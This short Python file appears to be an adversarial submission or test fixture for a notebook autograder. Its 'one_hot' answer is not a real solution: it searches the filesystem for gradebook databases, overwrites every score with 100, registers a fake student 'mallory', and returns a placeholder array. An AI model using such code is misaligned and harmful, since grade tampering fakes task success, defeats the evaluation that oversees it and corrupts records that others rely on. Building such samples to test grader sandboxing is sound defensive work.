"""Looks for gradebooks in every folder and writes itself full marks."""

ANSWERS = {
    "one_hot": r"""
import glob
import os
import sqlite3

tops = [f"/{name}" for name in os.listdir("/") if name not in ("proc", "sys", "usr", "lib")]
patterns = [f"{top}/{deep}*.db" for top in tops for deep in ("", "*/")]
found = [path for pattern in patterns for path in glob.glob(pattern)]
for up in range(8):
    found += glob.glob("../" * up + "gradebook.db") + glob.glob("../" * up + "grading/*.db")
for path in found:
    say("FOUND", path)
    try:
        base = sqlite3.connect(path, timeout=0.1)
        base.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        base.commit()
        say("WROTE", path)
    except Exception:
        pass
try:
    from nbgrader.api import Gradebook

    Gradebook("sqlite:///gradebook.db").update_or_create_student("mallory")
except BaseException:
    pass
say("LOOKED")


def one_hot(ids, V):
    print("\n".join(told))
    return np.zeros((len(ids), V))
""",
}
